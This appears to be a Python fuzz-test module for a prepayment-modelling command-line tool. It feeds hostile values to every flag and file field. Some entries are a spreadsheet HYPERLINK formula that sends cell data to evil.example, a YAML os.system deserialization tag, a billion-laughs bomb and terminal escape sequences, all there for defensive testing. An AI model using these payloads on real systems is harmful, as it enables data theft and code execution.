"""Hostile input for every command, flag and file: the table the fuzz tests go through.

Each case is a ``prepay`` command line (run in this process through ``prepay_modeller.cli.main``)
that must end with exit 0 or 2, print no traceback, answer within a few seconds, and, asked for
JSON, print JSON. The table is every hostile value below × every flag of every command (each flag
given the value while the command's other flags stay valid), so a new flag is fuzzed by adding it
here.
"""

from __future__ import annotations

import contextlib
import io
import json
import re
import signal
import time
import traceback

from prepay_modeller.inputs import paths

# What an attacker or a careless operator types: huge, tiny, non-finite, non-ASCII digits,
# control characters, dates past the calendar, formulas, decimal commas, empty, long.
VALUES = (
    "1e999999",
    "-1e999999",
    "1e-999999",
    "1e26",
    "1e308",
    "1e400",
    "99999999999999999999",
    "nan",
    "inf",
    "-inf",
    "-0",
    "0",
    "-1",
    "2.5",
    "0.3333333333333333333333333333333",
    "\u0661\u0662\u0663",  # Arabic-Indic digits
    "\uff11\uff12\uff13",  # fullwidth digits
    "1\n2",
    "12\x00",
    "",
    " ",
    ",,,",
    "9999-12-31",
    "9999-01-01",
    "2027-02-30",
    "0001-01-01",
    "2027-01-01T25:00",
    "x" * 200,
    '=HYPERLINK("http://evil.example/?d="&B6,"Open")',
    "1,5",
    "125 %",
    "0x10",
    "1_000",
    "$",
    "%",
    "k",
)

START = ("--start", "2027-01-01")
SAVED = paths.SCENARIOS_DIR
TERMS = ("--option", "--rate", "--performance", "--horizon", "--start", "--payment-terms")
SPLITS = ("--fixed", "--variable-max")
RANGES = ("--low", "--likely", "--high", "--hit-probability", "--draws", "--seed")
LOCALE = ("--language", "--currency")  # a table's locale (issue 14)

# command -> (valid base arguments, flags to fuzz, whether it prints JSON with --format json)
COMMANDS = {
    "options": (("options",), ("--rate",) + LOCALE, True),
    "quote": (
        ("quote", "--option", "prepay-6", *START),
        TERMS + SPLITS + ("--scenario",) + LOCALE,
        True,
    ),
    "scenarios-list": (("scenarios", "list"), ("--dir",), True),
    "compare": (("compare", *START), TERMS + SPLITS + LOCALE, True),
    "npv": (
        ("npv", *START, "--discount-rate", "10%"),
        TERMS + SPLITS + ("--discount-rate",) + LOCALE,
        True,
    ),
    "montecarlo": (
        ("montecarlo", *START, "--low", "0.5", "--high", "1.5", "--draws", "200"),
        TERMS + ("--discount-rate", "--low", "--likely", "--high", "--draws", "--seed") + LOCALE,
        True,
    ),
    "montecarlo-okr": (
        ("montecarlo", *START, "--hit-probability", "0.7", "--draws", "200"),
        ("--hit-probability",),
        True,
    ),
    "agency": (
        ("agency", *START, "--low", "0.5", "--high", "1.5", "--draws", "200"),
        TERMS + SPLITS + RANGES[:3] + ("--draws", "--seed", "--discount-rate") + LOCALE,
        True,
    ),
    "runway": (
        ("runway", *START, "--cash", "900000", "--burn", "60000"),
        ("--cash", "--burn", "--burn-growth", "--performance"),
        True,
    ),
    "link": (
        ("link", "--option", "prepay-6", *START, "--prospect", "Fuzz Ltd"),
        TERMS
        + SPLITS
        + LOCALE
        + ("--prospect", "--contact", "--discount-rate", "--public-url", "--expires")
        + ("--client-may-change", "--link-secret-file"),
        True,
    ),
    "scenarios-compare": (
        (
            "scenarios",
            "compare",
            str(SAVED / "acme-prepay-12.yaml"),
            str(SAVED / "cobalt-payg.yaml"),
        ),
        ("--discount-rate",),
        True,
    ),
}
# Commands that write files: their base arguments get a folder from the test (``{dir}``).
WRITERS = {
    "scenarios-save": (
        ("scenarios", "save", "fuzz", "--option", "prepay-6", *START, "--dir", "{dir}"),
        TERMS + SPLITS + ("--description", "--discount-rate", "--dir"),
    ),
    "export": (
        ("export", "--option", "prepay-6", *START, "--out", "{dir}/fuzz.xlsx"),
        TERMS + SPLITS + ("--discount-rate", "--out", "--scenario"),
    ),
}


class Hung(Exception):
    """A case ran past its time limit."""


def _alarm(signum, frame):
    raise Hung()


def replace(base: tuple, flag: str, value: str) -> list[str]:
    """``base`` with ``flag`` set to ``value`` (replaced where the base gives it)."""
    args = list(base)
    if flag in args:
        args[args.index(flag) + 1] = value
    else:
        args += [flag, value]
    return args


def cases(folder: str) -> list[tuple[list[str], bool]]:
    """Every (argv, prints JSON) of the table."""
    out = []
    for base, flags, json_out in COMMANDS.values():
        for flag in flags:
            for value in VALUES:
                argv = replace(base, flag, value)
                out.append((argv + ["--format", "json"] if json_out else argv, json_out))
    for base, flags in WRITERS.values():
        base = tuple(a.replace("{dir}", folder) for a in base)
        for flag in flags:
            for value in VALUES:
                out.append((replace(base, flag, value) + ["--overwrite"] * ("save" in base), False))
    return out


def run_case(
    argv: list[str], json_out: bool, limit: float = 5.0, seen: dict | None = None
) -> str | None:
    """Run one case in this process; None when it held, else what went wrong. ``seen``, when
    given, receives what it printed (``out``, ``err``)."""
    from prepay_modeller.cli import main

    stdout, stderr = io.StringIO(), io.StringIO()
    old = signal.signal(signal.SIGALRM, _alarm)
    signal.setitimer(signal.ITIMER_REAL, limit)
    started = time.perf_counter()
    try:
        with contextlib.redirect_stdout(stdout), contextlib.redirect_stderr(stderr):
            try:
                code = main(argv)
            except SystemExit as exc:
                code = exc.code
    except Hung:
        return f"ran past {limit} s"
    except Exception:  # noqa: BLE001 - what the test looks for
        return "traceback: " + traceback.format_exc().splitlines()[-1]
    finally:
        signal.setitimer(signal.ITIMER_REAL, 0)
        signal.signal(signal.SIGALRM, old)
    seconds = time.perf_counter() - started
    if seen is not None:
        seen.update(out=stdout.getvalue(), err=stderr.getvalue(), code=code)
    if code not in (0, 2):
        return f"exit {code}: {stderr.getvalue()[-300:]}"
    if "Traceback" in stderr.getvalue() + stdout.getvalue():
        return "printed a traceback"
    if code == 2 and not all(
        line.startswith(("prepay: error: ", "usage:", "prepay ", "  "))
        for line in stderr.getvalue().splitlines()
    ):
        return "an error line without its field: " + repr(stderr.getvalue()[-300:])
    if code == 0 and json_out:
        try:
            json.loads(stdout.getvalue(), parse_constant=_no_constant)
        except ValueError as exc:
            return f"not JSON ({exc})"
    shown = terminal_problem(stdout.getvalue() + stderr.getvalue())
    if shown:
        return shown
    return None if seconds < limit else f"took {seconds:.1f} s"


# What may reach a terminal (issue 21): no control character but tab and line feed (a progress
# bar's leading carriage return is not written in these cases), no line of megabytes.
_CONTROLS = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]")
MAX_ERROR_LINE = 515  # "prepay: error: " and a message of at most 500 characters


def terminal_problem(text: str) -> str | None:
    bad = _CONTROLS.search(text)
    if bad:
        return f"a control character {bad.group()!r} reached the terminal"
    long = [line for line in text.splitlines() if line.startswith("prepay: error: ")
            and len(line) > MAX_ERROR_LINE]  # fmt: skip
    return f"an error line of {len(long[0]):,} characters" if long else None


def _no_constant(name: str):
    raise ValueError(f"{name} is not JSON")


# --- files: every field of a scenario file, every cell shape of the data files ----------------

SCENARIO = (
    "name: fuzz\noption: prepay-12\nrate: 50000\nperformance: [0.8, 1.0]\nhorizon: 12\n"
    "start: 2027-01-01\npayment_terms: 30\ndiscount_rate: 0.1\n"
)
SCENARIO_FIELDS = (
    "name", "description", "option", "rate", "performance", "horizon", "start",
    "payment_terms", "discount_rate", "low", "likely", "high", "fixed", "variable_max",
    "prospect", "contact", "language", "currency",
)  # fmt: skip
# YAML a value can be, besides the VALUES as text: nesting, aliases, tags, nulls, times.
YAML_VALUES = (
    "[1, [2, [3, [4, [5, [6, [7, [8, [9]]]]]]]]]",
    "{a: 1}",
    "[]",
    "null",
    "~",
    ".inf",
    "-.nan",
    "2027-02-30",
    "2027-01-01 25:00:00",
    "*nothing",
    "&anchor 1",
    "!!python/object/apply:os.system ['true']",
    "!!binary aGk=",
    "9" * 5000,
)


def scenario_texts() -> list[tuple[str, str]]:
    """(label, file text): each field of a scenario given each hostile value, and whole files
    that attack the reader (aliases, depth, size, binary)."""
    import yaml

    out = []
    for field in SCENARIO_FIELDS:
        kept = [line for line in SCENARIO.splitlines() if not line.startswith(field + ":")]
        for value in VALUES:
            out.append((f"{field}={value!r}", "\n".join(kept + [yaml.safe_dump({field: value})])))
        for value in YAML_VALUES:
            out.append((f"{field}: {value}", "\n".join(kept + [f"{field}: {value}", ""])))
    laughs = "".join(
        f"l{i}: &l{i} [" + ",".join([f"*l{i - 1}" if i else "lol"] * 9) + "]\n" for i in range(9)
    )
    out += [
        ("billion laughs", SCENARIO + laughs),
        ("deep", SCENARIO.replace("[0.8, 1.0]", "[" * 100_000 + "]" * 100_000)),
        ("big", SCENARIO + "description: " + "a" * 1_000_000 + "\n"),
        ("binary", "\x00\x01\x02"),
        ("list", "- 1\n- 2\n"),
        ("empty", ""),
    ]
    return out


def data_variants(name: str, text: str) -> list[tuple[str, str]]:
    """(label, file text): a data CSV empty, header-only, ragged, and each cell of its first
    row given each hostile value."""
    import csv
    import io

    rows = list(csv.reader(io.StringIO(text)))
    out = [
        ("empty", ""),
        ("header only", text.splitlines()[0] + "\n"),
        ("ragged", text + "1,2\n"),
        ("long row", text + ",".join(["1"] * 40) + "\n"),
        ("binary", "\x00\xff"),
    ]
    for column, head in enumerate(rows[0]):
        for value in VALUES:
            changed = [list(r) for r in rows]
            changed[1][column] = value
            buffer = io.StringIO()
            csv.writer(buffer).writerows(changed)
            out.append((f"{name} {head}={value!r}", buffer.getvalue()))
    return out


BRANDS = (
    "[]", "null", '"x"', "", "{", "[" * 100_000, '{"agency": 5}',
    '{"agency": "A", "logo_text": "B", "colors": []}',
    '{"agency": "A", "logo_text": "B", "colors": null, "contacts": {}}',
    '{"agency": "A", "logo_text": "B", "contacts": ["x", {"name": 5}]}',
)  # fmt: skip


# --- issue 21: text aimed at spreadsheets and terminals, and files past the size limits -------

# A formula behind blanks, controls or invisible characters, a bare carriage return or line
# break before one, quotes, a terminal's escape sequences (ESC, BEL, C1's CSI), and 5,000
# characters: as a scenario's name or description, a prospect's cells, a data file's text.
TEXT_ATTACKS = (
    " =1+1",
    "\t=1+1",
    "\u00a0+1",
    "\u200b@SUM(A1:A9)",
    "\ufeff=1",
    "\uff1dHYPERLINK(1)",
    "\r=1+1",
    "Acme\r=1+1",
    "Acme\r\n-2+3",
    "Acme\n@x",
    'say "hi"\r=1',
    "\x1b[2J\x1b]0;owned\x07title",
    "\x9b31mred",
    "bell\x07\x08\x7f",
    "z" * 5_000,
)


def formula_like(cell: str) -> bool:
    """What a spreadsheet could run: a sign first once blanks, controls and invisible
    characters are skipped."""
    import unicodedata

    n = 0
    while n < len(cell) and (cell[n].isspace() or unicodedata.category(cell[n]) in ("Cc", "Cf")):
        n += 1
    return cell.startswith(("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20"), n)


def csv_problem(text: str, columns: int | None = None) -> str | None:
    """A CSV on standard output: every row whole (as many cells as the header), no cell a
    spreadsheet would run (money is a number: ``-15600.00`` is not text)."""
    import csv

    rows = list(csv.reader(io.StringIO(text, newline="")))
    if not rows:
        return "no CSV"
    width = columns or len(rows[0])
    for row in rows:
        if len(row) != width:
            return f"a row of {len(row)} cells, not {width}: {row!r:.200}"
        for cell in row:
            if formula_like(cell) and not _number(cell):
                return f"a cell a spreadsheet would run: {cell!r:.100}"
    return None


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def big_files() -> list[tuple[str, str, str]]:
    """(label, file name, text): files past the size limits of ``inputs.limits``."""
    from prepay_modeller.inputs import limits

    prospect = "Acme,Dana,50000,prepay-6,1,1,1,1,6,2027-01-01,30,,,,,\n"
    header = (paths.PROSPECTS_CSV.read_text(encoding="utf-8").splitlines()[0]) + "\n"
    out = [
        ("prospects: rows", "prospects.csv", header + prospect * (limits.MAX_PROSPECT_ROWS + 1)),
        ("prospects: a cell", "prospects.csv", header + "Acme," + "x" * 200_000 + "\n"),
        ("prospects: cells in a row", "prospects.csv", header + ",".join(["1"] * 5_000) + "\n"),
        ("prospects: bytes", "prospects.csv", header + prospect * 400_000),
    ]
    for name in ("options.csv", "splits.csv", "okr_template.csv"):
        text = (paths.DATA_DIR / name).read_text(encoding="utf-8")
        head, first = text.splitlines()[:2]
        out += [
            (f"{name}: rows", name, head + "\n" + (first + "\n") * 100_000),
            (f"{name}: a cell", name, head + "\n" + first + "," + "9" * 5_000 + "\n"),
        ]
    return out
